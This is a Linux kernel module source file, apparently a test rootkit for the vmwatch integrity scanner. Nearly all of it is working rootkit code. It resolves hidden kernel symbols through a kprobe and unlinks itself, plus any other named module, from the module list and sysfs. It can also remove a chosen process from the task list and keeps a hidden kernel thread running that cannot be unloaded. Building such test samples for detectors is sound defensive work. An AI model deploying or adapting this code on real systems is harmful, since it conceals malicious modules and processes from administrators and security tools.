// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hide: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.  It CANNOT BE UNLOADED: reboot the VM.
 *
 * Direct kernel object manipulation, no code or read-only data is written:
 *   - hides itself: unlinked from the `modules` list (list_del_rcu, under
 *     module_mutex) and its kobject deleted (kobject_del), so it is gone from
 *     /proc/modules, lsmod and /sys/module; its memory, its symbols' addresses
 *     and its entry in the kernel's module address tree (mod_tree) stay;
 *   - with `also=NAME`, hides another loaded module the same way (it can no
 *     longer be unloaded either);
 *   - hides a process from the task list: with `pid=N` (a process, i.e. a
 *     thread-group leader; 0 = none, the default) the task_struct is unlinked
 *     from init_task.tasks (list_del_rcu under tasklist_lock, then, after an
 *     RCU grace period, task->tasks points to itself so that the task's exit
 *     unlinks nothing).  /proc lists pids from the pid namespace, not the task
 *     list: the process stays in `ls /proc` and `ps`; it is missing from every
 *     walk of the task list (for_each_process: kill(-1, sig), the OOM killer,
 *     ... and a VMI tool walking init_task.tasks);
 *   - keeps a kernel thread running (name: `thread_name`, default
 *     "rk_hide_beat") that wakes every `beat_ms` ms (default 1000): the proof
 *     that the hidden module still runs (its code is only in hidden memory).
 *
 * The module hides itself from that thread once the kernel has finished
 * loading it (state LIVE and init memory released), so the load line below
 * appears in dmesg shortly AFTER insmod returns (well under 2 s).
 *
 * One line, for tests (addresses raw):
 *   rk_hide: hooked module-list,sysfs[,task-list] module=0x<struct module> \
 *     text=0x<core text base>+0x<size> kthread=<pid>:0x<task_struct> \
 *     [hidden_pid=<pid>:0x<task_struct>] [also=<module>]
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/delay.h>
#include <linux/mutex.h>
#include <linux/kobject.h>
#include <linux/poison.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: hides itself and a process (DKOM)");

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to unlink from the task list (0: none)");
static char *thread_name = "rk_hide_beat";
module_param(thread_name, charp, 0444);
MODULE_PARM_DESC(thread_name, "name of the module's kernel thread");
static int beat_ms = 1000;
module_param(beat_ms, int, 0444);
MODULE_PARM_DESC(beat_ms, "the kernel thread's wake-up period");
static char *also;
module_param(also, charp, 0444);
MODULE_PARM_DESC(also, "another loaded module to hide the same way (none by default)");

typedef struct module *(*find_module_t)(const char *name);
static find_module_t find_module_p;	/* not exported */
static bool also_hidden;

#include "rk_common.h"

static rwlock_t *tasklist_lock_p;	/* not exported */
static struct mutex *module_mutex_p;	/* not exported */
static struct task_struct *victim, *beat;
static unsigned long beats;

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
#define INIT_BASE(m) ((m)->mem[MOD_INIT_TEXT].base)
#define TEXT_BASE(m) ((m)->mem[MOD_TEXT].base)
#define TEXT_SIZE(m) ((m)->mem[MOD_TEXT].size)
#else
#define INIT_BASE(m) ((m)->init_layout.base)
#define TEXT_BASE(m) ((m)->core_layout.base)
#define TEXT_SIZE(m) ((m)->core_layout.text_size)
#endif

/* Unlinks victim from init_task.tasks; returns false if it is exiting. */
static bool hide_task(struct task_struct *t)
{
	bool ok = false;

	write_lock_irq(tasklist_lock_p);
	if (!(t->flags & PF_EXITING) && !t->exit_state) {
		list_del_rcu(&t->tasks);	/* ->next kept for RCU walkers */
		ok = true;
	}
	write_unlock_irq(tasklist_lock_p);
	if (!ok)
		return false;
	/* no for_each_process walker can still stand on t after this */
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	/* a self-linked entry passes list_del's checks when the task exits */
	if (t->tasks.prev == LIST_POISON2) {
		WRITE_ONCE(t->tasks.next, &t->tasks);
		t->tasks.prev = &t->tasks;
	}
	write_unlock_irq(tasklist_lock_p);
	return true;
}

static void hide_module(void)
{
	struct module *other = NULL;

	mutex_lock(module_mutex_p);
	list_del_rcu(&THIS_MODULE->list);
	if (also && *also) {
		other = find_module_p(also);
		if (other && other != THIS_MODULE)
			list_del_rcu(&other->list);
		else
			other = NULL;
	}
	mutex_unlock(module_mutex_p);
	synchronize_rcu();
	kobject_del(&THIS_MODULE->mkobj.kobj);
	if (other) {
		kobject_del(&other->mkobj.kobj);
		also_hidden = true;
	}
}

static int beat_fn(void *unused)
{
	static char line[300];
	int waited = 0, n;
	bool task_hidden = false;

	/* let do_init_module() finish (uevent, init memory) before hiding */
	while ((THIS_MODULE->state != MODULE_STATE_LIVE || INIT_BASE(THIS_MODULE)) &&
	       waited < 10000 && !kthread_should_stop()) {
		msleep(20);
		waited += 20;
	}
	msleep(50);
	hide_module();
	if (victim) {
		task_hidden = hide_task(victim);
		if (!task_hidden)
			pr_warn("pid %d is exiting: not hidden\n", pid);
	}
	n = scnprintf(line, sizeof(line),
		      "hooked module-list,sysfs%s module=%px text=%px+0x%x kthread=%d:%px",
		      task_hidden ? ",task-list" : "", THIS_MODULE, TEXT_BASE(THIS_MODULE),
		      (unsigned int)TEXT_SIZE(THIS_MODULE), current->pid, current);
	if (task_hidden)
		n += scnprintf(line + n, sizeof(line) - n, " hidden_pid=%d:%px", victim->pid, victim);
	if (also_hidden)
		scnprintf(line + n, sizeof(line) - n, " also=%s", also);
	pr_info("%s\n", line);
	if (victim) {
		put_task_struct(victim);
		victim = NULL;
	}

	while (!kthread_should_stop()) {
		msleep_interruptible(beat_ms > 0 ? beat_ms : 1000);
		beats++;
	}
	return 0;
}

static int __init rk_hide_init(void)
{
	int err;

	err = resolve_kln();
	if (err) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", err);
		return err;
	}
	tasklist_lock_p = (rwlock_t *)kln("tasklist_lock");
	module_mutex_p = (struct mutex *)kln("module_mutex");
	find_module_p = (find_module_t)kln("find_module");
	if (also && *also && !find_module_p) {
		pr_err("find_module not found\n");
		return -ENOENT;
	}
	if (!tasklist_lock_p || !module_mutex_p) {
		pr_err("tasklist_lock or module_mutex not found\n");
		return -ENOENT;
	}
	if (pid > 0) {
		struct task_struct *t;

		rcu_read_lock();
		t = pid_task(find_vpid(pid), PIDTYPE_PID);
		if (t)
			t = t->group_leader;
		if (t)
			get_task_struct(t);
		rcu_read_unlock();
		if (!t) {
			pr_err("no process %d\n", pid);
			return -ESRCH;
		}
		victim = t;
	}
	beat = kthread_run(beat_fn, NULL, "%s", thread_name);
	if (IS_ERR(beat)) {
		if (victim)
			put_task_struct(victim);
		return PTR_ERR(beat);
	}
	return 0;
}

module_init(rk_hide_init);
/* no module_exit: the kernel refuses rmmod (and cannot find the module anyway) */
